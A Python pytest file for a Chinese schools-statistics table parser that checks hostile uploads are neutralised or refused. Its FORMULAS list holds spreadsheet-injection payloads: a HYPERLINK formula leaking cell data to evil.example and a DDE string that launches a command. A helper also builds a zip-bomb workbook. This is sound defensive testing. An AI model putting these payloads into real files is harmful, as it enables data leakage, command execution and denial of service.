"""Hostile and careless schools tables (issue 16, items 2, 6, 7 and the table items of 16).

Formula text in downloads, cells that would pin a CPU, too many rows, zip bombs, endless devices,
semicolons instead of commas, and a workbook whose first sheet is a cover page: each gets a Chinese
message naming what is wrong (or is made harmless) within its stated bound.
"""
from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import time
import zipfile
from decimal import Decimal
from pathlib import Path

import psutil
import pytest
from openpyxl import Workbook, load_workbook

from assistant.domain import schools
from assistant.domain.schools import (
    MAX_CELL_VALUE, MAX_DECIMAL_PLACES, MAX_ROWS, MAX_XLSX_UNPACKED_MB, SchoolRow, SchoolsTableError, evaluate,
    evaluate_within, parse_table, read_table, write_csv, write_xlsx,
)
from tests.test_index import assert_clean_error, run_cli

HEADER = "学校名称,学段,在校生数,高于规定学历教师数,县级以上骨干教师数,体育艺术专任教师数,教学及辅助用房面积,体育运动场馆面积,教学仪器设备值,网络多媒体教室数"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def table(*names: str, equipment: str = "2000000") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(HEADER.split(","))
    for name in names:
        writer.writerow([name, "小学", 1000, 42, 10, 9, 4500, 7500, equipment, 23])
    return out.getvalue().encode("utf-8")


def error_of(data: bytes, name: str = "schools.csv") -> str:
    with pytest.raises(SchoolsTableError) as info:
        parse_table(data, name)
    return str(info.value)


# ---------------------------------------------------------------- 2. formulas in the downloads

@pytest.fixture(scope="module")
def formula_report():
    names = [*FORMULAS, "示例小学（虚构）"]
    return names, evaluate(parse_table(table(*names)))


def test_csv_report_shows_formula_text_as_text(tmp_path, formula_report):
    names, report = formula_report
    path = tmp_path / "report.csv"
    write_csv(report, path)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        column = [row[1] for row in csv.reader(handle) if len(row) > 1][1:len(names) + 1]
    assert column == ["'" + n for n in FORMULAS] + ["示例小学（虚构）"]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in column)


@pytest.mark.parametrize("text", ["\t=1+1", "\r=1+1", "=1", "+1+1", "-1-1", "@A1"])
def test_every_formula_start_is_neutralised(text):
    assert schools.spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("text", ["-0.10", "+3", "12.50", "示例小学", "一=二"])
def test_numbers_and_plain_text_stay_as_they_are(text):
    assert schools.spreadsheet_text(text) == text


def test_xlsx_report_has_no_formula_at_all(tmp_path, formula_report):
    names, report = formula_report
    path = tmp_path / "report.xlsx"
    write_xlsx(report, path)
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)
    sheet = load_workbook(path)["各校指标"]
    cells = [sheet.cell(row=r, column=2) for r in range(2, len(names) + 2)]
    assert [c.value for c in cells] == names  # shown exactly as typed
    assert all(c.data_type == "s" for c in cells)
    assert all(c.quotePrefix for c in cells[:len(FORMULAS)])  # Excel's own "this is text" flag


# ---------------------------------------------------------------- 6. magnitudes and digits

HUGE = {
    "1e100000000": "超出范围", "1e999999": "超出范围", "1e-999999": "小数", "9" * 5000: "超出范围",
    "0." + "1" * 40: "小数", "12345678901234567890123456789": "超出范围",
}


@pytest.mark.parametrize("value", list(HUGE), ids=lambda v: v[:16])
def test_a_huge_or_endless_number_is_a_data_error_naming_row_and_column(value):
    started = time.perf_counter()
    message = error_of(table("甲小学", equipment=value))
    assert time.perf_counter() - started < 2.0
    assert "第2行" in message and "教学仪器设备值" in message and HUGE[value] in message
    assert "Exceeds" not in message and len(message) < 300  # the value is shortened, never 5,000 digits


def test_the_bounds_themselves_are_accepted():
    value = f"{MAX_CELL_VALUE}"
    (row,) = parse_table(table("甲小学", equipment=value))
    assert row.amounts["equipment_value_yuan"] == Decimal(value)
    (row,) = parse_table(table("乙小学", equipment="1." + "5" * MAX_DECIMAL_PLACES))
    assert row.amounts["equipment_value_yuan"] > 1


def test_a_huge_number_in_an_xlsx_cell(tmp_path):
    """openpyxl turns a 5,000-digit cell into an int, and Python refuses to print it (English, 4300 digits)."""
    book = Workbook()
    book.active.append(HEADER.split(","))
    book.active.append(["甲小学", "小学", 1000, 42, 10, 9, 4500, 7500, 123456789, 23])
    buffer = io.BytesIO()
    book.save(buffer)
    patched = io.BytesIO()
    with zipfile.ZipFile(buffer) as src, zipfile.ZipFile(patched, "w") as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<v>123456789</v>", b"<v>" + b"9" * 5000 + b"</v>")
            dst.writestr(item, data)
    message = error_of(patched.getvalue(), "schools.xlsx")
    assert "第2行" in message and "位数" in message and "Exceeds" not in message


def test_calculations_run_under_a_time_limit():
    """A row that skipped the reader's bounds (built in code) still cannot pin a CPU: the child is stopped."""
    row = SchoolRow(2, "甲小学", "小学", 1000, {
        "teachers_above_degree": Decimal(42), "backbone_teachers": Decimal(10), "pe_art_teachers": Decimal(9),
        "teaching_area_m2": Decimal(4500), "sports_area_m2": Decimal(7500),
        "equipment_value_yuan": Decimal("1e100000000"), "multimedia_classrooms": Decimal(23)})
    started = time.perf_counter()
    with pytest.raises(SchoolsTableError, match="秒"):
        evaluate_within([row], seconds=2)
    assert time.perf_counter() - started < 10
    assert psutil.Process().children(recursive=True) == []  # stopped, not left running


def test_the_time_limited_calculation_gives_the_same_report():
    rows = parse_table(table("甲小学", "乙小学", equipment="1800000"))
    assert evaluate_within(rows) == json.loads(json.dumps(evaluate(rows), ensure_ascii=False))


# ---------------------------------------------------------------- 7. rows, zip bombs, devices

def test_more_rows_than_the_cap_is_refused_and_the_cap_itself_accepted():
    names = [f"学校{i:05d}" for i in range(MAX_ROWS + 1)]
    message = error_of(table(*names))
    assert str(MAX_ROWS) in message and "行" in message
    assert len(parse_table(table(*names[:MAX_ROWS]))) == MAX_ROWS


def test_more_rows_than_the_cap_in_xlsx(tmp_path):
    book = Workbook()
    book.active.append(HEADER.split(","))
    for i in range(MAX_ROWS + 1):
        book.active.append([f"学校{i:05d}", "小学", 1000, 42, 10, 9, 4500, 7500, 2000000, 23])
    path = tmp_path / "many.xlsx"
    book.save(path)
    assert str(MAX_ROWS) in error_of(path.read_bytes(), "many.xlsx")


def _zip_bomb(path: Path, unpacked_mb: int) -> Path:
    """A valid workbook with one more row: a single cell whose text unpacks to `unpacked_mb` MB."""
    book = Workbook()
    book.active.append(HEADER.split(","))
    book.active.append(["甲小学", "小学", 1000, 42, 10, 9, 4500, 7500, 2000000, 23])
    buffer = io.BytesIO()
    book.save(buffer)
    sheet_name = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(buffer) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            if item.filename != sheet_name:
                dst.writestr(item, src.read(item))
        head, tail = src.read(sheet_name).split(b"</sheetData>")
        with dst.open(sheet_name, "w") as part:
            part.write(head + b'<row r="3"><c r="K3" t="inlineStr"><is><t>')
            block = b"A" * (1 << 20)
            for _ in range(unpacked_mb):
                part.write(block)
            part.write(b"</t></is></c></row></sheetData>" + tail)
    return path


def test_a_zip_bomb_xlsx_is_refused_before_reading(tmp_path):
    bomb = _zip_bomb(tmp_path / "bomb.xlsx", 4 * MAX_XLSX_UNPACKED_MB)
    assert bomb.stat().st_size < 2 * 1024 * 1024  # small enough to pass the upload limit
    # VmHWM, not ru_maxrss: Linux carries ru_maxrss over from the forking (pytest) process across exec
    probe = ("import re, sys\nfrom assistant.domain.schools import read_table, SchoolsTableError\n"
             "try:\n    read_table(sys.argv[1])\nexcept SchoolsTableError as exc:\n    print(exc)\n"
             "status = open('/proc/self/status').read()\n"
             "print(int(re.search(r'VmHWM:\\s+(\\d+)', status).group(1)) // 1024)\n")
    started = time.perf_counter()
    proc = subprocess.run([sys.executable, "-c", probe, str(bomb)], capture_output=True, text=True, timeout=120)
    message, peak_mb = proc.stdout.strip().rsplit("\n", 1)
    assert "解压后" in message and str(MAX_XLSX_UNPACKED_MB) in message, proc.stderr
    assert int(peak_mb) < 150 and time.perf_counter() - started < 30  # nothing was unpacked


def test_calc_on_an_endless_device_or_a_pipe_is_bounded(built_settings, tmp_path):
    proc = run_cli(built_settings, "calc", "--csv", "/dev/zero", timeout=60)
    assert_clean_error(proc, "不是普通文件")
    fifo = tmp_path / "schools.csv"
    os.mkfifo(fifo)
    proc = run_cli(built_settings, "calc", "--csv", str(fifo), timeout=60)  # opening it would wait forever
    assert_clean_error(proc, "不是普通文件")


def test_calc_reads_no_more_than_the_limit(tmp_path):
    path = tmp_path / "big.csv"
    path.write_bytes(table(*[f"学校{i:05d}" for i in range(200)]))
    with pytest.raises(SchoolsTableError, match="过大"):
        read_table(path, max_bytes=1024)


# ---------------------------------------------------------------- 16. delimiters and sheets

@pytest.mark.parametrize(("sep", "name"), [(";", "分号"), ("\t", "制表符"), ("，", "中文逗号")])
def test_another_delimiter_is_named(sep, name):
    message = error_of(table("甲小学").decode("utf-8").replace(",", sep).encode("utf-8"))
    assert name in message and "逗号" in message and "第1行" in message


def _book(sheets: dict[str, list[list]]) -> bytes:
    book = Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


DATA_ROWS = [HEADER.split(","), ["甲小学", "小学", 1000, 42, 10, 9, 4500, 7500, 2000000, 23]]
COVER = [["曲阜市义务教育学校资源配置统计表"], ["填报单位：市教育和体育局"]]


def test_the_sheet_with_the_columns_is_found_behind_a_cover_sheet():
    (row,) = parse_table(_book({"封面": COVER, "说明": [["见下一页"]], "学校数据": DATA_ROWS}), "统计表.xlsx")
    assert row.school == "甲小学" and row.row == 2


def test_no_sheet_with_the_columns_names_every_sheet_seen():
    message = error_of(_book({"封面": COVER, "说明": [["填表说明"]]}), "统计表.xlsx")
    assert "封面" in message and "说明" in message and "学校名称" in message


def test_errors_in_a_later_sheet_name_that_sheet():
    bad = [DATA_ROWS[0], ["甲小学", "小学", 1000, 42, 10, 9, 4500, 7500, "两百万", 23]]
    message = error_of(_book({"封面": COVER, "学校数据": bad}), "统计表.xlsx")
    assert "工作表“学校数据”" in message and "第2行" in message and "教学仪器设备值" in message
